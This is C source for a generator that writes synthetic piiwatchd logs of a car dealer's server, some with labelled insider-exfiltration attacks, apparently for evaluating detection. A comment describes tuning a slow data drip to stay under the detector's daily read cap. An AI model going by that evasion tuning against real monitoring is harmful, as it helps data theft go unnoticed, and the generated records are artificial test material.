// SPDX-License-Identifier: GPL-2.0
/*
 * pw-scenario-gen: a month of a car dealer's DMS server as piiwatchd's
 * JSON Lines output ([output jsonl]) would show it, deterministic from a
 * seed, and the same month with each attack of the evaluation injected.
 *
 *   pw-scenario-gen [--seed N] [--days N] [--start YYYY-MM-DD] [--utc-offset H] DIR
 *   pw-scenario-gen --list
 *
 * writes into DIR:
 *   benign.jsonl      the month alone
 *   ATTACK.jsonl      the month with one attack (one file per attack)
 *   labels.tsv        for each attack: its window, user, audit sessions and
 *                     the rule ids that count as detecting it
 *   policy.conf       the policy piiwatchd would run with on that host
 *
 * The records are built by the project's own encoder (userspace/ecs.c)
 * from the structures the daemon fills (struct pw_access, pw_event_rec,
 * pw_session_record) and the fields are filled the way collector.c and
 * pam_piiwatch fill them: a line here is a line piiwatchd could write.
 * Lines are in the order the daemon writes them: an access when its file
 * is released, an event when it happens, a session record when PAM sends
 * it (a record spooled across a reboot arrives after the new boot's first
 * lines).  tests/scenarios/README.md describes the month and the attacks.
 */
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <math.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#include "ecs.h"
#include "piiwatch.h"
#include "util.h"

#define NS 1000000000ULL
#define MSEC 1000000ULL
#define MINUTE (60 * NS)
#define HOUR (3600 * NS)
#define DAY (86400 * NS)
#define KIB 1024ULL
#define MIB (1024ULL * 1024)

#define HOST_NAME "dms01"
#define PID_LIMIT 4194304u /* kernel.pid_max as systemd sets it */
/* Attacks come after the detector's default learning period of two
 * weeks; the slow drip needs a working week after that. */
#define FIRST_ATTACK_DAY 15
#define MIN_DAYS 24

/* f_flags as the kernel keeps them (O_LARGEFILE is forced on 64-bit). */
#define FL_READ (O_RDONLY | 0100000)
#define FL_RDWR (O_RDWR | 0100000)
#define FL_WRITE (O_WRONLY | 0100000)
#define FL_APPEND (O_WRONLY | O_APPEND | 0100000)

/* A non-blocking connect(2) returns -EINPROGRESS: what curl, Go programs
 * and most daemons see. */
#define CONNECT_INPROGRESS (-115)

/* The slow drip keeps the advisor's customer reads of each day, his
 * usual work included, at this: under bulk-read's default cap of 64 MiB a
 * day (userspace/policy.c), and about six times what an advisor reads of
 * customers on a usual day. */
#define DRIP_DAY_CUSTOMERS (60 * MIB)

/* ---- random numbers: xoshiro256** seeded through splitmix64 ---------- */

struct rng {
	uint64_t s[4];
};

static uint64_t splitmix64(uint64_t *x)
{
	uint64_t z = (*x += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static void rng_seed(struct rng *r, uint64_t seed)
{
	int i;

	for (i = 0; i < 4; i++)
		r->s[i] = splitmix64(&seed);
}

static uint64_t rotl(uint64_t x, int k)
{
	return (x << k) | (x >> (64 - k));
}

static uint64_t rng_next(struct rng *r)
{
	uint64_t out = rotl(r->s[1] * 5, 7) * 9, t = r->s[1] << 17;

	r->s[2] ^= r->s[0];
	r->s[3] ^= r->s[1];
	r->s[1] ^= r->s[2];
	r->s[0] ^= r->s[3];
	r->s[2] ^= t;
	r->s[3] = rotl(r->s[3], 45);
	return out;
}

static double rng_unit(struct rng *r)
{
	return (double)(rng_next(r) >> 11) * 0x1.0p-53;
}

/* Uniform in [lo, hi]. */
static uint64_t rng_range(struct rng *r, uint64_t lo, uint64_t hi)
{
	return hi <= lo ? lo : lo + rng_next(r) % (hi - lo + 1);
}

static bool rng_chance(struct rng *r, double p)
{
	return rng_unit(r) < p;
}

/* Exponentially distributed, for the gaps between independent requests. */
static uint64_t rng_exp(struct rng *r, double mean)
{
	return (uint64_t)(-mean * log(1.0 - rng_unit(r)));
}

/* A seed for one plan or attack, independent of every other draw. */
static uint64_t derive_seed(uint64_t seed, const char *what, uint64_t n)
{
	uint64_t h = seed ^ 0x6a09e667f3bcc909ULL;

	for (; *what; what++)
		h = (h ^ (unsigned char)*what) * 0x100000001b3ULL;
	h ^= n * 0x9e3779b97f4a7c15ULL;
	return splitmix64(&h);
}

/* ---- the host ----------------------------------------------------------- */

enum dataset { DS_CUSTOMERS, DS_SERVICE, DS_FINANCE, DS_HONEYTOKEN };

static char *const dataset_names[] = { "customers", "service-history", "finance", "honeytoken" };

struct file {
	char path[96];
	enum dataset ds;
	uint64_t ino;
	uint64_t size;
	uint64_t mtime;          /* last write, for the nightly backup */
	int month;               /* finance: months since 2000-01 of a monthly file; -1 */
};

enum role { SALES, ADVISOR, TECH, FINANCE, ADMIN };

struct user {
	char *name;
	uint32_t uid;
	enum role role;
	char addr[16];           /* the usual workstation */
	int day_off;             /* weekday (1-6) off besides Sunday; 6: Saturday */
	int first_day;           /* new hires: the account's first day */
};

static struct user users[] = {
	{ "sato", 1001, SALES, "10.20.1.11", 0, 0 },
	{ "suzuki", 1002, SALES, "10.20.1.12", 0, 0 },
	{ "takahashi", 1003, SALES, "10.20.1.13", 0, 0 },
	{ "tanaka", 1004, SALES, "10.20.1.14", 0, 0 },
	{ "watanabe", 1005, SALES, "10.20.1.15", 0, 0 },
	{ "ito", 1006, SALES, "10.20.1.16", 0, 0 },
	{ "yamamoto", 1007, ADVISOR, "10.20.1.31", 0, 0 },
	{ "nakamura", 1008, ADVISOR, "10.20.1.32", 0, 0 },
	{ "kobayashi", 1009, ADVISOR, "10.20.1.33", 0, 0 },
	{ "kato", 1010, TECH, "10.20.2.21", 0, 0 },
	{ "yoshida", 1011, TECH, "10.20.2.22", 0, 0 },
	{ "yamada", 1012, FINANCE, "10.20.1.51", 6, 0 },
	{ "sasaki", 1013, FINANCE, "10.20.1.52", 6, 0 },
	{ "itadmin", 1014, ADMIN, "10.20.9.5", 6, 0 },
	{ "matsumoto", 1015, SALES, "10.20.1.17", 0, -1 }, /* new hire: first_day set per run */
};

#define N_USERS (sizeof(users) / sizeof(users[0]))
#define FINANCE_LEAD 11          /* yamada: the daily report from cron */
#define IT_ADMIN 13
#define NEW_HIRE (N_USERS - 1)
#define DMS_UID 998u
#define PIIWATCHD_PID 702u
#define DNS_SERVER "10.20.0.1"
#define BACKUP_SERVER "10.20.0.5"
#define MAKER_API "198.51.100.80"

struct boot {
	char id[PW_BOOT_ID_LEN];
	uint64_t start_ns;       /* realtime of the boot */
	uint32_t next_audit;     /* the kernel's audit session counter */
	uint32_t dms_pid;
	uint32_t cron_pid;
	uint32_t sshd_pid;
	unsigned char *pids;     /* bitmap of pids handed out */
};

struct gen_state;
struct plan;
typedef void (*render_fn)(struct gen_state *g, const struct plan *p);

struct plan {
	uint64_t start;
	uint64_t end;
	render_fn render;
	uint64_t seed;
	int user;                /* index in users[], -1 for none */
	int flags;               /* PLAN_* */
	int day;
	char addr[48];
	bool attack;
};

#define PLAN_OVERTIME 0x1
#define PLAN_FIRST_DAY 0x2
#define PLAN_CAMPAIGN 0x4
#define PLAN_MONTH_END 0x8
#define PLAN_FULL 0x10          /* backups: the weekly full run */
#define PLAN_REBOOT 0x20        /* the admin's session that reboots the host */
#define PLAN_MORNING 0x40       /* first session of a split day: ends at lunch */

struct line {
	uint64_t t;
	uint64_t seq;
	char *text;
};

#define MAX_LABEL_SESSIONS 16

struct label {
	uint64_t first, last;
	char user[32];
	uint32_t sessions[MAX_LABEL_SESSIONS];
	int n_sessions;
};

struct gen_state {
	uint64_t seed;
	int days;
	int utc_offset_h;
	uint64_t day0_ns;        /* local midnight of day 0, as UTC */
	int wday0;               /* weekday of day 0, 0 = Sunday */
	int month0;              /* months since 2000-01 of day 0 */
	int mday0;               /* day of month of day 0 */
	int reboot_day;          /* -1: none */
	struct boot boots[2];
	int n_boots;
	struct file *files;
	size_t n_files;
	uint64_t next_ino;
	int64_t next_session_row;
	uint64_t last_backup;
	struct line *lines;
	size_t n_lines, cap_lines;
	uint64_t seq;
	struct plan *plans;
	size_t n_plans, cap_plans;
	uint64_t *read_day;      /* bytes read per [user][day][dataset], sessions and cron */
	size_t drip_next;        /* the customer shard the drip reads next */
	bool in_attack;          /* rendering an attack plan: track the label */
	struct label label;
	bool oom;
};

static void *xrealloc(struct gen_state *g, void *p, size_t n)
{
	void *q = realloc(p, n);

	if (!q)
		g->oom = true;
	return q;
}

/* ---- time ---------------------------------------------------------------- */

/* UTC nanoseconds of local time hh:mm on day d. */
static uint64_t at(const struct gen_state *g, int d, int hh, int mm)
{
	return g->day0_ns + (uint64_t)d * DAY + (uint64_t)hh * HOUR + (uint64_t)mm * MINUTE;
}

static int weekday(const struct gen_state *g, int d)
{
	return (g->wday0 + d) % 7;
}

/* Day of the month and months since 2000-01 of day d. */
static void calendar(const struct gen_state *g, int d, int *mday, int *month, int *mdays)
{
	time_t t = (time_t)((g->day0_ns + (uint64_t)d * DAY) / NS) + g->utc_offset_h * 3600;
	struct tm tm;
	static const int len[] = { 31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31 };
	int y;

	gmtime_r(&t, &tm);
	y = tm.tm_year + 1900;
	*mday = tm.tm_mday;
	*month = (y - 2000) * 12 + tm.tm_mon;
	*mdays = len[tm.tm_mon] + (tm.tm_mon == 1 && y % 4 == 0 && (y % 100 || y % 400 == 0));
}

/* The last Monday-to-Friday of its month. */
static bool is_month_end(const struct gen_state *g, int d)
{
	int mday, month, mdays, w = weekday(g, d);

	calendar(g, d, &mday, &month, &mdays);
	if (w == 0 || w == 6)
		return false;
	if (mday == mdays)
		return true;
	/* Friday with only the weekend left in the month. */
	return w == 5 && mdays - mday <= 2;
}

static struct boot *boot_at(struct gen_state *g, uint64_t t)
{
	return g->n_boots > 1 && t >= g->boots[1].start_ns ? &g->boots[1] : &g->boots[0];
}

/* A pid for a process started at t: pids climb with the host's other work
 * (about one process every three seconds) and are never handed out twice
 * in a boot. */
static uint32_t pid_at(struct gen_state *g, uint64_t t)
{
	struct boot *b = boot_at(g, t);
	uint64_t c = 900 + (t > b->start_ns ? (t - b->start_ns) / (3 * NS) : 0);

	while (c < PID_LIMIT && (b->pids[c / 8] & (1u << (c % 8))))
		c++;
	if (c >= PID_LIMIT)
		c = 300;
	b->pids[c / 8] |= (unsigned char)(1u << (c % 8));
	return (uint32_t)c;
}

/* The kernel's access id: boot-relative ns with the CPU in the low byte. */
static uint64_t access_id_at(const struct boot *b, uint64_t t, struct rng *r)
{
	return ((t - b->start_ns) & ~0xffULL) | (rng_next(r) & 1);
}

/* ---- emitting records ---------------------------------------------------- */

static void add_line(struct gen_state *g, uint64_t emit_t, json_object *o)
{
	char *text;

	if (!o) {
		g->oom = true;
		return;
	}
	text = pw_ecs_to_line(o);
	json_object_put(o);
	if (!text) {
		g->oom = true;
		return;
	}
	if (g->n_lines == g->cap_lines) {
		size_t cap = g->cap_lines ? g->cap_lines * 2 : 65536;
		struct line *v = xrealloc(g, g->lines, cap * sizeof(*v));

		if (!v) {
			free(text);
			return;
		}
		g->lines = v;
		g->cap_lines = cap;
	}
	g->lines[g->n_lines++] = (struct line){ emit_t, g->seq++, text };
	if (g->in_attack) {
		if (!g->label.first || emit_t < g->label.first)
			g->label.first = emit_t;
		if (emit_t > g->label.last)
			g->label.last = emit_t;
	}
}

/* Who a record is about: a login session, a cron job (audit session but
 * no session record) or a process with no login session at all. */
struct sess {
	struct boot *boot;
	uint32_t audit;          /* PW_NO_ID: no login session */
	int64_t row;             /* sessions.id in the store, 0: no session record */
	uint32_t loginuid;       /* PW_NO_ID: none */
	char *user;
	char *service;
	char *rhost;
	uint32_t shell_pid;
};

struct proc {
	uint32_t pid;
	uint32_t ppid;
	uint32_t uid;
	char comm[17];
	char *exe;
	char args[512];
};

static void proc_set(struct proc *p, uint32_t pid, uint32_t ppid, uint32_t uid, const char *comm,
		     char *exe, const char *args)
{
	p->pid = pid;
	p->ppid = ppid;
	p->uid = uid;
	snprintf(p->comm, sizeof(p->comm), "%s", comm);
	p->exe = exe;
	snprintf(p->args, sizeof(p->args), "%s", args);
}

static void fill_event(struct pw_event_rec *e, const struct sess *s, const struct proc *p,
		       uint64_t t)
{
	e->ts_ns = t;
	e->session_id = s->row;
	e->audit_session = s->audit;
	e->loginuid = s->loginuid;
	e->uid = p->uid;
	e->pid = p->pid;
	e->ppid = p->ppid;
	e->user = s->user;
	e->comm = p->comm;
	e->exe = p->exe;
	e->args = p->args;
}

/* piiwatchd records the programs run in login sessions only. */
static void emit_exec(struct gen_state *g, const struct sess *s, const struct proc *p, uint64_t t)
{
	struct pw_event_rec e = { .kind = "exec", .action = "exec" };

	if (s->audit == PW_NO_ID)
		return;
	fill_event(&e, s, p, t);
	add_line(g, t, pw_ecs_from_event(&e, HOST_NAME, s->boot->id));
}

/* A process started at t by parent: its exec event, and it is returned. */
static struct proc spawn(struct gen_state *g, const struct sess *s, uint32_t ppid, uint32_t uid,
			 const char *comm, char *exe, const char *args, uint64_t t)
{
	struct proc p;

	proc_set(&p, pid_at(g, t), ppid, uid, comm, exe, args);
	emit_exec(g, s, &p, t);
	return p;
}

static void emit_connect(struct gen_state *g, const struct sess *s, const struct proc *p,
			 uint64_t t, char *ip, int port, int64_t result)
{
	struct pw_event_rec e = { .kind = "connect", .action = "connect" };

	fill_event(&e, s, p, t);
	e.dest_ip = ip;
	e.dest_port = port;
	e.result = result;
	add_line(g, t, pw_ecs_from_event(&e, HOST_NAME, s->boot->id));
}

/* A change to a protected file: path is the protected path the kernel
 * saw, asked what the program passed ("a -> b" for renames). */
static void emit_change(struct gen_state *g, const struct sess *s, const struct proc *p,
			uint64_t t, const char *action, const char *path, const char *asked,
			const struct file *f)
{
	struct pw_event_rec e = { .kind = "change" };

	fill_event(&e, s, p, t);
	e.action = action;
	e.dataset = dataset_names[f->ds];
	e.path = path;
	e.path2 = asked;
	e.honeytoken = f->ds == DS_HONEYTOKEN;
	add_line(g, t, pw_ecs_from_event(&e, HOST_NAME, s->boot->id));
}

/* When the bytes of an access move: spread over it, or all right after
 * the open (a pager reads a screen, then waits for the reader). */
enum io_shape { IO_SPREAD, IO_AT_OPEN };

struct io {
	uint64_t opened;
	uint64_t closed;
	uint64_t bytes_read;
	uint64_t bytes_written;
	uint64_t reads;
	uint64_t writes;
	uint32_t open_flags;
	enum io_shape shape;
};

/* [daemon] delta_interval's default, and how often piiwatchd flushes the
 * counts of accesses that went quiet. */
#define DELTA_INTERVAL NS
#define IDLE_FLUSH (500 * MSEC)

static uint64_t scaled(uint64_t v, uint64_t num, uint64_t den)
{
	return den ? (uint64_t)((double)v * (double)num / (double)den) : v;
}

static int day_of(const struct gen_state *g, uint64_t t);

/* What a person read of each dataset on each day, for the slow drip. */
static void count_read(struct gen_state *g, const struct sess *s, const char *dataset,
		       const struct io *io)
{
	size_t ui;
	int d = day_of(g, io->opened), ds;

	if (!io->bytes_read || s->loginuid == PW_NO_ID || d < 0 || d >= g->days)
		return;
	for (ds = 0; ds < DS_HONEYTOKEN && strcmp(dataset_names[ds], dataset) != 0; ds++)
		;
	for (ui = 0; ui < N_USERS && users[ui].uid != s->loginuid; ui++)
		;
	if (ds < DS_HONEYTOKEN && ui < N_USERS)
		g->read_day[(ui * (size_t)g->days + (size_t)d) * DS_HONEYTOKEN + (size_t)ds] +=
			io->bytes_read;
}

/*
 * The records piiwatchd ships for one access (collector.c): at the open of
 * a honeytoken, one with nothing counted yet; while bytes move, the
 * running totals every delta_interval (or at the next idle flush when they
 * moved right after the open); and the final one, with event.end.
 */
static void emit_access(struct gen_state *g, const struct sess *s, struct proc *p,
			char *path, char *dataset, bool honeytoken, bool staging, uint64_t ino,
			const struct io *io, struct rng *r)
{
	uint64_t span = io->closed - io->opened, tk;
	struct pw_access a;

	if (!staging)
		count_read(g, s, dataset, io);
	memset(&a, 0, sizeof(a));
	snprintf(a.boot_id, sizeof(a.boot_id), "%s", s->boot->id);
	a.access_id = access_id_at(s->boot, io->opened, r);
	a.session_id = s->row;
	a.audit_session = s->audit;
	a.loginuid = s->loginuid;
	a.uid = p->uid;
	a.pid = p->pid;
	a.ppid = p->ppid;
	a.open_flags = io->open_flags;
	snprintf(a.comm, sizeof(a.comm), "%s", p->comm);
	a.user = s->user;
	a.exe = p->exe;
	a.args = p->args;
	a.dataset = dataset;
	a.path = path;
	/* 254:1, the virtio disk holding / and /srv, in the kernel's encoding */
	a.dev = (254ULL << 20) | 1;
	a.ino = ino;
	a.honeytoken = honeytoken;
	a.staging = staging;
	/* The collector keeps only the mmap and io_uring bits on an access:
	 * why the file was released does not reach the record. */
	a.flags = 0;
	a.opened_ns = io->opened;
	a.service = s->service;
	a.rhost = s->rhost;
	if (honeytoken) {
		a.last_ns = io->opened;
		add_line(g, io->opened, pw_ecs_from_access(&a, HOST_NAME));
	}
	if (io->shape == IO_AT_OPEN && span > DELTA_INTERVAL + IDLE_FLUSH) {
		tk = io->opened + DELTA_INTERVAL + rng_range(r, 0, IDLE_FLUSH);
		a.bytes_read = io->bytes_read;
		a.bytes_written = io->bytes_written;
		a.reads = io->reads;
		a.writes = io->writes;
		a.last_ns = tk;
		add_line(g, tk, pw_ecs_from_access(&a, HOST_NAME));
	}
	for (tk = io->opened + DELTA_INTERVAL; io->shape == IO_SPREAD && tk < io->closed;
	     tk += DELTA_INTERVAL + rng_range(r, 0, 3 * MSEC)) {
		a.bytes_read = scaled(io->bytes_read, tk - io->opened, span);
		a.bytes_written = scaled(io->bytes_written, tk - io->opened, span);
		a.reads = scaled(io->reads, tk - io->opened, span);
		a.writes = scaled(io->writes, tk - io->opened, span);
		a.last_ns = tk;
		add_line(g, tk, pw_ecs_from_access(&a, HOST_NAME));
	}
	a.bytes_read = io->bytes_read;
	a.bytes_written = io->bytes_written;
	a.reads = io->reads;
	a.writes = io->writes;
	a.last_ns = io->closed;
	a.closed_ns = io->closed;
	add_line(g, io->closed, pw_ecs_from_access(&a, HOST_NAME));
}

/* Time to move n bytes at rate bytes/s, plus a syscall's worth. */
static uint64_t io_time(uint64_t n, double rate, struct rng *r)
{
	return 150000 + (uint64_t)((double)n / rate * (double)NS * (0.8 + 0.4 * rng_unit(r)));
}

/* Read n bytes of f (whole file: n = f->size) in chunks of chunk bytes,
 * opening at t; returns when the file was released. */
static uint64_t read_file(struct gen_state *g, const struct sess *s, struct proc *p,
			  struct file *f, uint64_t t, uint64_t n, uint64_t chunk, struct rng *r)
{
	struct io io = { .opened = t, .open_flags = FL_READ };

	if (n > f->size)
		n = f->size;
	io.bytes_read = n;
	io.reads = (n + chunk - 1) / chunk;
	io.closed = t + io_time(n, 350e6, r);
	emit_access(g, s, p, f->path, dataset_names[f->ds], f->ds == DS_HONEYTOKEN, false, f->ino,
		    &io, r);
	return io.closed;
}

/* less: a screen's worth read at the open, the file closed when the
 * reader quits; returns then. */
static uint64_t page_file(struct gen_state *g, const struct sess *s, struct proc *p,
			  struct file *f, uint64_t t, uint64_t n, struct rng *r)
{
	struct io io = { .opened = t, .open_flags = FL_READ, .shape = IO_AT_OPEN };

	io.bytes_read = n < f->size ? n : f->size;
	io.reads = io.bytes_read / (8 * KIB) + 1;
	io.closed = t + rng_range(r, 20, 300) * NS;
	emit_access(g, s, p, f->path, dataset_names[f->ds], f->ds == DS_HONEYTOKEN, false, f->ino,
		    &io, r);
	return io.closed;
}

/* Update records in place (O_RDWR): read a little, write a little. */
static uint64_t update_file(struct gen_state *g, const struct sess *s, struct proc *p,
			    struct file *f, uint64_t t, uint64_t nread, uint64_t nwrite,
			    struct rng *r)
{
	struct io io = { .opened = t, .open_flags = FL_RDWR };

	io.bytes_read = nread < f->size ? nread : f->size;
	io.reads = (io.bytes_read + 8191) / 8192;
	io.bytes_written = nwrite;
	io.writes = 1 + nwrite / 4096;
	io.closed = t + io_time(nread + nwrite, 200e6, r) + rng_range(r, 1, 20) * MSEC;
	emit_access(g, s, p, f->path, dataset_names[f->ds], false, false, f->ino, &io, r);
	f->mtime = io.closed;
	f->size += nwrite / 2;
	return io.closed;
}

/* A regular file that is not protected, written by a process that had
 * read protected data: piiwatchd's "staging" access. */
static uint64_t write_staging(struct gen_state *g, const struct sess *s, struct proc *p,
			      char *path, uint64_t t, uint64_t n, uint64_t chunk, uint32_t flags,
			      struct rng *r)
{
	struct io io = { .opened = t, .open_flags = flags };

	io.bytes_written = n;
	io.writes = (n + chunk - 1) / chunk;
	io.closed = t + io_time(n, 300e6, r);
	emit_access(g, s, p, path, "staging", false, true, g->next_ino++, &io, r);
	return io.closed;
}

/* A staging file written from opened to closed while the process reads. */
static void write_whole_run(struct gen_state *g, const struct sess *s, struct proc *p, char *path,
			    uint64_t opened, uint64_t closed, uint64_t n, uint64_t chunk,
			    uint32_t flags, struct rng *r)
{
	struct io io = { .opened = opened, .closed = closed, .open_flags = flags,
			 .bytes_written = n };

	io.writes = (n + chunk - 1) / chunk;
	emit_access(g, s, p, path, "staging", false, true, g->next_ino++, &io, r);
}

/* ---- login sessions ------------------------------------------------------ */

static void emit_session_record(struct gen_state *g, const struct sess *s, const struct user *u,
				enum pw_record_type type, uint32_t pid, const char *tty,
				uint64_t t, uint64_t emit_t, struct rng *r)
{
	struct pw_session_record rec;

	memset(&rec, 0, sizeof(rec));
	rec.type = type;
	snprintf(rec.id, sizeof(rec.id), "%020llu-%u-%08x", (unsigned long long)t, pid,
		 (unsigned)(rng_next(r) & 0xffffffffu));
	snprintf(rec.user, sizeof(rec.user), "%s", u->name);
	snprintf(rec.service, sizeof(rec.service), "%s", s->service);
	snprintf(rec.rhost, sizeof(rec.rhost), "%s", s->rhost ? s->rhost : "");
	snprintf(rec.tty, sizeof(rec.tty), "%s", tty);
	rec.uid = u->uid;
	rec.pid = pid;
	rec.loginuid = u->uid;
	rec.sessionid = s->audit;
	snprintf(rec.boot_id, sizeof(rec.boot_id), "%s", s->boot->id);
	rec.time_ns = t;
	rec.mono_ns = t - s->boot->start_ns;
	add_line(g, emit_t, pw_ecs_from_session_row(&rec, s->row, HOST_NAME));
}

/* An ssh login: PAM's session record, the login shell and what .bashrc
 * runs.  The session is closed by session_end(). */
struct login {
	struct sess s;
	const struct user *u;
	uint32_t monitor_pid;
	char addr[48];
};

static void session_begin(struct gen_state *g, struct login *l, const struct user *u,
			  const char *addr, uint64_t t, struct rng *r)
{
	struct proc shell;
	uint32_t user_sshd;

	memset(l, 0, sizeof(*l));
	l->u = u;
	snprintf(l->addr, sizeof(l->addr), "%s", addr);
	l->s.boot = boot_at(g, t);
	l->s.audit = l->s.boot->next_audit++;
	l->s.row = ++g->next_session_row;
	l->s.loginuid = u->uid;
	l->s.user = u->name;
	l->s.service = "sshd";
	l->s.rhost = l->addr;
	if (g->in_attack && g->label.n_sessions < MAX_LABEL_SESSIONS)
		g->label.sessions[g->label.n_sessions++] = l->s.audit;
	l->monitor_pid = pid_at(g, t - 300 * MSEC);
	emit_session_record(g, &l->s, u, PW_REC_SESSION_OPEN, l->monitor_pid, "ssh", t, t, r);
	/* sshd's unprivileged child for the user, then the login shell. */
	user_sshd = pid_at(g, t + 20 * MSEC);
	shell = spawn(g, &l->s, user_sshd, u->uid, "bash", "/usr/bin/bash", "-bash",
		      t + 60 * MSEC + rng_range(r, 0, 40) * MSEC);
	l->s.shell_pid = shell.pid;
	spawn(g, &l->s, shell.pid, u->uid, "lesspipe", "/usr/bin/dash", "/bin/sh /usr/bin/lesspipe",
	      t + 110 * MSEC);
	spawn(g, &l->s, shell.pid, u->uid, "dircolors", "/usr/bin/dircolors", "dircolors -b",
	      t + 130 * MSEC);
}

static void session_end(struct gen_state *g, struct login *l, uint64_t t, uint64_t emit_t,
			struct rng *r)
{
	emit_session_record(g, &l->s, l->u, PW_REC_SESSION_CLOSE, l->monitor_pid, "ssh", t, emit_t,
			    r);
}

/* ---- files --------------------------------------------------------------- */

static struct file *add_file(struct gen_state *g, const char *path, enum dataset ds,
			     uint64_t size, uint64_t ino, int month)
{
	struct file *f;

	if (g->n_files % 64 == 0) {
		struct file *v = xrealloc(g, g->files, (g->n_files + 64) * sizeof(*v));

		if (!v)
			return NULL;
		g->files = v;
	}
	f = &g->files[g->n_files++];
	memset(f, 0, sizeof(*f));
	snprintf(f->path, sizeof(f->path), "%s", path);
	f->ds = ds;
	f->size = size;
	f->ino = ino;
	f->month = month;
	return f;
}

#define N_CUSTOMER_SHARDS 120
#define N_SERVICE_SHARDS 80

static void make_files(struct gen_state *g, struct rng *r)
{
	char path[96];
	int i, m, last_month;

	for (i = 1; i <= N_CUSTOMER_SHARDS; i++) {
		snprintf(path, sizeof(path), "/srv/dms/customers/customers-%04d.csv", i);
		add_file(g, path, DS_CUSTOMERS, rng_range(r, 2500, 4600) * KIB, 1835010 + (uint64_t)i,
			 -1);
	}
	add_file(g, "/srv/dms/customers/zz_vip_customers.csv", DS_HONEYTOKEN,
		 rng_range(r, 23000, 26000), 1835200, -1);
	for (i = 1; i <= N_SERVICE_SHARDS; i++) {
		snprintf(path, sizeof(path), "/srv/dms/service-history/service-%04d.csv", i);
		add_file(g, path, DS_SERVICE, rng_range(r, 3000, 6200) * KIB, 1966090 + (uint64_t)i,
			 -1);
	}
	/* Monthly ledgers and invoice lists since January of last year. */
	last_month = g->month0 + (g->mday0 - 1 + g->days) / 28;
	for (m = (g->month0 / 12 - 1) * 12; m <= last_month; m++) {
		snprintf(path, sizeof(path), "/srv/dms/finance/ledger-%04d-%02d.csv", 2000 + m / 12,
			 m % 12 + 1);
		add_file(g, path, DS_FINANCE, rng_range(r, 2200, 6000) * KIB,
			 2097160 + (uint64_t)(m % 120) * 2, m);
		snprintf(path, sizeof(path), "/srv/dms/finance/invoices-%04d-%02d.csv", 2000 + m / 12,
			 m % 12 + 1);
		add_file(g, path, DS_FINANCE, rng_range(r, 4000, 9000) * KIB,
			 2097161 + (uint64_t)(m % 120) * 2, m);
	}
	snprintf(path, sizeof(path), "/srv/dms/finance/payroll-%04d.csv", 2000 + g->month0 / 12);
	add_file(g, path, DS_FINANCE, rng_range(r, 1400, 1700) * KIB, 2097400, -1);
	g->next_ino = 2400000;
}

static struct file *pick(struct gen_state *g, enum dataset ds, struct rng *r)
{
	size_t i, n = 0, k;

	for (i = 0; i < g->n_files; i++)
		n += g->files[i].ds == ds;
	k = rng_range(r, 0, n - 1);
	for (i = 0; i < g->n_files; i++)
		if (g->files[i].ds == ds && k-- == 0)
			return &g->files[i];
	return &g->files[0];
}

/* The finance file of a month (ledger or invoices) if it exists. */
static struct file *finance_file(struct gen_state *g, int month, bool invoices)
{
	size_t i;

	for (i = 0; i < g->n_files; i++)
		if (g->files[i].month == month &&
		    (strstr(g->files[i].path, "invoices") != NULL) == invoices)
			return &g->files[i];
	return NULL;
}

static struct file *honeytoken(struct gen_state *g)
{
	size_t i;

	for (i = 0; i < g->n_files; i++)
		if (g->files[i].ds == DS_HONEYTOKEN)
			return &g->files[i];
	return &g->files[0];
}

static int month_of(const struct gen_state *g, int d)
{
	int mday, month, mdays;

	calendar(g, d, &mday, &month, &mdays);
	return month;
}

static int day_of(const struct gen_state *g, uint64_t t)
{
	return (int)((t - g->day0_ns) / DAY);
}

/* ---- plans ---------------------------------------------------------------- */

static struct plan *add_plan(struct gen_state *g, uint64_t start, uint64_t end, render_fn fn,
			     int user, int flags, const char *what)
{
	struct plan *p;

	if (g->n_plans == g->cap_plans) {
		size_t cap = g->cap_plans ? g->cap_plans * 2 : 4096;
		struct plan *v = xrealloc(g, g->plans, cap * sizeof(*v));

		if (!v)
			return NULL;
		g->plans = v;
		g->cap_plans = cap;
	}
	p = &g->plans[g->n_plans];
	memset(p, 0, sizeof(*p));
	p->start = start;
	p->end = end;
	p->render = fn;
	p->user = user;
	p->flags = flags;
	p->day = day_of(g, start);
	p->seed = derive_seed(g->seed, what, (uint64_t)g->n_plans * 1000003 + start / NS);
	if (user >= 0)
		snprintf(p->addr, sizeof(p->addr), "%s", users[user].addr);
	g->n_plans++;
	return p;
}

/* ---- benign renderers ------------------------------------------------------ */

/* Debian's /etc/crontab: run-parts of cron.hourly at :17.  cron's PAM stack
 * has pam_loginuid but not pam_piiwatch: an audit session, no record. */
static void render_cron(struct gen_state *g, const struct plan *p)
{
	static const struct {
		char *comm, *exe, *args;
	} daily[] = {
		{ "run-parts", "/usr/bin/run-parts", "run-parts --report /etc/cron.daily" },
		{ "apt-compat", "/usr/bin/dash", "/bin/sh /etc/cron.daily/apt-compat" },
		{ "dpkg", "/usr/bin/dash", "/bin/sh /etc/cron.daily/dpkg" },
		{ "dpkg-db-backup", "/usr/bin/dash", "/bin/sh /usr/libexec/dpkg/dpkg-db-backup" },
		{ "logrotate", "/usr/bin/dash", "/bin/sh /etc/cron.daily/logrotate" },
		{ "man-db", "/usr/bin/dash", "/bin/sh /etc/cron.daily/man-db" },
	};
	struct boot *b = boot_at(g, p->start);
	struct sess s = { b, b->next_audit++, 0, 0, "root", NULL, NULL, 0 };
	uint64_t t = p->start;
	struct proc sh, parts;
	struct rng r;
	size_t i;

	rng_seed(&r, p->seed);
	if (p->flags & PLAN_FULL) {
		sh = spawn(g, &s, pid_at(g, t), 0, "sh", "/usr/bin/dash",
			   "/bin/sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report "
			   "/etc/cron.daily; }",
			   t + 2 * MSEC);
		parts = sh;
		for (i = 0; i < sizeof(daily) / sizeof(daily[0]); i++) {
			struct proc c;

			t += rng_range(&r, 3, 40) * MSEC;
			c = spawn(g, &s, parts.pid, 0, daily[i].comm, daily[i].exe, daily[i].args, t);
			if (i == 0)
				parts = c;
		}
		return;
	}
	sh = spawn(g, &s, pid_at(g, t), 0, "sh", "/usr/bin/dash",
		   "/bin/sh -c    cd / && run-parts --report /etc/cron.hourly", t + 2 * MSEC);
